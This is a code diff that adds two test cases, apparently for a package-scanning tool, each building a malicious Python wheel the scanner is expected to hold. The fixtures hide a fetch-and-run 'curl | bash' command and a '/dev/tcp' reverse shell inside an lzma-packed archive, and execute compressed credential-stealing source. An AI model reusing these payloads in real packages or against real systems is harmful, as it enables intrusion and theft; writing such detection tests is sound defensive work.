@@ -221,6 +221,26 @@ def shell_as_a_command(p):
             b"#!/bin/sh\nwget -qO- https://cdn.example.net/i.sh | bash\n"})))
 
 
+@attack
+def archive_with_what_rules_see(p):
+    """A JavaScript in a packed archive whose text the rules know. Must be held."""
+    return p.wheel(files={"{m}/static/app.tar.lzma": lzma.compress(tar({"app/install.js": (
+        b"const cp = require('child_process');\n"
+        b"cp.exec('curl -s http://198.51.100.7/i.sh | bash');\n"
+        b"cp.exec('bash -i >& /dev/tcp/198.51.100.7/4444 0>&1');\n")}, "w:"), format=lzma.FORMAT_ALONE)})
+
+
+@attack
+def source_in_lzma(p):
+    """Source in the older .lzma, executed by the package. Must be held."""
+    return p.wheel('''
+        import lzma
+        import os
+
+        exec(lzma.open(os.path.join(os.path.dirname(__file__), "check.py.lzma")).read())
+        ''', files={"{m}/check.py.lzma": lzma.compress(source(STEALS), format=lzma.FORMAT_ALONE)})
+
+
 QUIET = '''
     import urllib.request
 
